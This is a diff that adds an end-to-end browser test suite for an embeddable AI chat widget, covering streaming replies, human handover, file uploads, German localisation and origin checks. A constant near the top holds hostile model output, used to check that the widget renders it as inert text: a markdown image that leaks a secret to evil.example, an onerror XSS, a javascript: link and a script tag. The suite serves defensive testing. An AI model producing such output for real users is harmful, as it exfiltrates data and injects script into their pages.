@@ -1,0 +1,248 @@
+import * as Effect from "effect/Effect"
+import * as Exit from "effect/Exit"
+import * as Scope from "effect/Scope"
+import * as Fs from "node:fs"
+import * as Http from "node:http"
+import type { AddressInfo } from "node:net"
+import * as Path from "node:path"
+import type { Browser, BrowserContext, BrowserContextOptions, Page } from "playwright-core"
+import { afterAll, beforeAll, describe, expect, it } from "vitest"
+import { removeFolder, root, type Spoke, start, temporaryFolder, until } from "../e2e/Spoke.ts"
+import * as ModelStub from "../ModelStub.ts"
+import { complaints, desktop, hasBrowser, launch, look, phone } from "./Browser.ts"
+
+const owner = { SPOKE_ADMIN_EMAIL: "owner@example.com", SPOKE_ADMIN_PASSWORD: "correct horse battery" }
+
+const pixel = Buffer.from(
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+  "base64"
+)
+
+/** What a hostile page or source could make a model write. */
+const hostile =
+  'Look: ![x](https://evil.example/leak?secret=1) <img src="https://evil.example/a.png" onerror="alert(1)"> ' +
+  "[click](javascript:alert(1)) <script>alert(1)</script> [docs](https://example.com/docs)."
+
+describe.skipIf(!hasBrowser)("The widget on a page of another origin", () => {
+  const dataDir = temporaryFolder()
+  const scope = Effect.runSync(Scope.make())
+  let stub: ModelStub.ModelStub
+  let spoke: Spoke
+  let browser: Browser
+  let key = ""
+  let cookie = ""
+  let address = ""
+
+  /** A strict page: only our script, and only connections to the service. */
+  const site = Http.createServer((request, response) => {
+    const query = new URL(request.url ?? "/", "http://page.example").searchParams
+    const attributes = [...query].map(([name, value]) => `data-${name}="${value}"`).join(" ")
+    response.writeHead(200, {
+      "content-type": "text/html; charset=utf-8",
+      "content-security-policy": `default-src 'none'; script-src ${spoke.url}; connect-src ${spoke.url} ${spoke.url.replace("http", "ws")}`
+    })
+    response.end(
+      `<!doctype html><html lang="en"><meta name="viewport" content="width=device-width"><title>Shop</title><main><h1>Shop</h1><p>We sell bicycles.</p></main><script src="${spoke.url}/widget.js" ${attributes}></script></html>`
+    )
+  })
+
+  const asOwner = (method: string, path: string, body?: unknown) =>
+    spoke.request(method, path, { key: null, headers: { cookie, "x-spoke-csrf": "1" }, body })
+
+  const visit = async (
+    options: BrowserContextOptions = desktop,
+    attributes = ""
+  ): Promise<{ context: BrowserContext; page: Page; wrong: ReadonlyArray<string> }> => {
+    const context = await browser.newContext(options)
+    const page = await context.newPage()
+    const wrong = complaints(page)
+    await page.goto(`${address}/?key=${key}${attributes}`)
+    return { context, page, wrong }
+  }
+
+  const open = async (page: Page) => {
+    await page.getByRole("button", { name: "Open chat" }).click()
+    await page.getByRole("dialog").waitFor()
+  }
+
+  const say = async (page: Page, message: string) => {
+    await page.getByLabel("Message", { exact: true }).fill(message)
+    await page.keyboard.press("Enter")
+  }
+
+  const bubbles = (page: Page) => page.locator(".bubble")
+
+  beforeAll(async () => {
+    stub = await Effect.runPromise(Scope.extend(ModelStub.make, scope))
+    spoke = await start(dataDir, {
+      ...owner,
+      OPENAI_BASE_URL: stub.url,
+      OPENAI_API_KEY: "sk-stub",
+      SPOKE_EMBEDDING_MODEL: "offline"
+    })
+    browser = await launch()
+    await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve))
+    address = `http://127.0.0.1:${(site.address() as AddressInfo).port}`
+    const login = await spoke.request("POST", "/api/auth/login", {
+      key: null,
+      headers: { "x-spoke-csrf": "1" },
+      body: { email: owner.SPOKE_ADMIN_EMAIL, password: owner.SPOKE_ADMIN_PASSWORD }
+    })
+    cookie = login.headers.get("set-cookie")?.split(";")[0] ?? ""
+    const { body } = await asOwner("GET", "/api/agents")
+    const made = await asOwner("POST", `/api/agents/${body.data.agents[0].id}/keys`, {
+      name: "Widget",
+      permissions: ["chat"],
+      allowedOrigins: [address]
+    })
+    key = made.body.data.secret
+    await until(
+      () => spoke.request("GET", "/v1/sources"),
+      ({ body }) => body.data.sources.every(({ status }: { status: string }) => status === "READY"),
+      30_000
+    )
+  }, 60_000)
+
+  afterAll(async () => {
+    await browser.close()
+    await spoke.kill()
+    site.close()
+    removeFolder(dataDir)
+    await Effect.runPromise(Scope.close(scope, Exit.void))
+  })
+
+  it("is at most 60 kB compressed, and writes no HTML", () => {
+    expect(Fs.statSync(Path.join(root, "dist/ui/widget.js.gz")).size).toBeLessThan(60_000)
+    const folder = Path.join(root, "src/ui/widget")
+    for (const name of Fs.readdirSync(folder)) {
+      const text = Fs.readFileSync(Path.join(folder, name), "utf8")
+      expect(text).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|dangerously|<img/u)
+    }
+  })
+
+  it("streams a reply with its sources, takes feedback, and works by keyboard alone under a strict policy", async () => {
+    const { context, page, wrong } = await visit()
+    await page.keyboard.press("Tab")
+    await page.keyboard.press("Enter")
+    await page.getByRole("dialog").waitFor()
+    stub.script.push({ text: "A **source** is where the agent's knowledge comes from [1]." })
+    await page.locator("header button").first().waitFor()
+    await page.keyboard.type("What is a source?")
+    await page.keyboard.press("Enter")
+    await page.getByRole("button", { name: /^Source 1/ }).waitFor()
+    expect(await page.getByRole("log").textContent()).toContain("knowledge comes from")
+    await page.getByRole("button", { name: /^Source 1/ }).click()
+    await page.getByRole("button", { name: "Helpful", exact: true }).click()
+    await page.getByText("Thank you for the feedback.").waitFor()
+    await look(page, "widget")
+    await page.keyboard.press("Escape")
+    expect(await page.getByRole("dialog").count()).toBe(0)
+    expect(
+      await page.getByRole("button", { name: "Open chat" }).evaluate((node) => node.matches(":focus"))
+    ).toBe(true)
+    expect(wrong).toEqual([])
+    await context.close()
+  })
+
+  it("shows what a model writes as text, and loads nothing from elsewhere (G33)", async () => {
+    const { context, page, wrong } = await visit()
+    const foreign: Array<string> = []
+    page.on("request", (request) => {
+      if (!request.url().startsWith(spoke.url)) foreign.push(request.url())
+    })
+    await open(page)
+    stub.script.push({ text: hostile })
+    await say(page, "Be evil")
+    await page.getByRole("link", { name: "docs (https://example.com/docs)" }).waitFor()
+    expect(await page.locator("img, script:not([data-key]), iframe, a[href^=javascript]").count()).toBe(0)
+    expect(foreign).toEqual([])
+    expect(wrong).toEqual([])
+    await context.close()
+  })
+
+  it("shows the settled reply after a reload in mid-stream, and never sends a message twice (G12, G13)", async () => {
+    const { context, page } = await visit()
+    await open(page)
+    stub.script.push({ text: "One two three four five six seven eight nine ten.", gap: 150 })
+    const before = stub.requests.length
+    await say(page, "Count to ten")
+    await page.getByText("One two").waitFor()
+    await page.reload()
+    await open(page)
+    await page.getByText("One two three four five six seven eight nine ten.").first().waitFor()
+    await until(
+      () => bubbles(page).allTextContents(),
+      (texts) => texts.length === 3
+    )
+    expect(stub.requests.length - before).toBe(1)
+    await context.close()
+  })
+
+  it("hands over to a person, whose replies come by themselves, and begins anew once they have closed", async () => {
+    const { context, page, wrong } = await visit()
+    await open(page)
+    stub.script.push({ text: "Gladly." })
+    await say(page, "I want a refund")
+    await page.getByText("Gladly.").first().waitFor()
+    await page.getByRole("button", { name: "Talk to a person" }).click()
+    await page.getByText("We have asked the team.").waitFor()
+    await say(page, "Is anybody there?")
+    const { body } = await asOwner("GET", "/api/conversations?state=HUMAN_REQUESTED")
+    const { id } = body.data.conversations[0]
+    const said = await asOwner("POST", `/api/conversations/${id}/messages`, { content: "Ada here, hello!" })
+    expect(said.status).toBe(201)
+    await page.locator(".bubble", { hasText: "Ada here, hello!" }).waitFor()
+    await page.getByText("You are talking with a person.").waitFor()
+    expect(await page.locator(".bubble", { hasText: "Ada here" }).count()).toBe(1)
+    await look(page, "widget-human")
+    expect((await asOwner("POST", `/api/conversations/${id}/close`)).status).toBe(200)
+    await page.getByRole("button", { name: "Start a new conversation" }).click()
+    stub.script.push({ text: "Welcome back." })
+    await say(page, "Another thing")
+    await page.locator(".bubble", { hasText: "Welcome back." }).waitFor()
+    expect(wrong).toEqual([])
+    await context.close()
+  })
+
+  it("checks files before they leave, and sends those that the service takes", async () => {
+    const { context, page } = await visit()
+    await open(page)
+    const [chooser] = await Promise.all([
+      page.waitForEvent("filechooser"),
+      page.getByRole("button", { name: "Attach files" }).click()
+    ])
+    await chooser.setFiles([
+      { name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("no") },
+      { name: "dot.png", mimeType: "image/png", buffer: pixel }
+    ])
+    await page.getByText("notes.txt: only JPEG, PNG, WebP, GIF and PDF can be sent.").waitFor()
+    await look(page, "widget-files")
+    stub.script.push({ text: "A dot." })
+    await say(page, "What is this?")
+    await page.locator(".bubble", { hasText: "A dot." }).waitFor()
+    await page.getByRole("button", { name: "Download dot.png" }).waitFor()
+    await context.close()
+  })
+
+  it("speaks German and fills a phone", async () => {
+    const { context, page, wrong } = await visit(phone, "&language=de&accent=rebeccapurple&open")
+    await page.getByRole("dialog").waitFor()
+    stub.script.push({ text: "Gern! Hier ist ein sehr langes Wort: " + "Donaudampfschifffahrt".repeat(6) })
+    await page.getByLabel("Nachricht", { exact: true }).fill("Hallo")
+    await page.getByRole("button", { name: "Senden" }).click()
+    await page.locator(".bubble", { hasText: "Gern!" }).waitFor()
+    await page.getByRole("button", { name: "Hilfreich", exact: true }).waitFor()
+    await look(page, "widget-phone")
+    expect(wrong).toEqual([])
+    await context.close()
+  })
+
+  it("says so on a page that the key does not allow", async () => {
+    const context = await browser.newContext(desktop)
+    const page = await context.newPage()
+    await page.goto(`${address.replace("127.0.0.1", "localhost")}/?key=${key}`)
+    await open(page)
+    await page.getByText("This chat is not allowed on this website.").waitFor()
+    await context.close()
+  })
+})
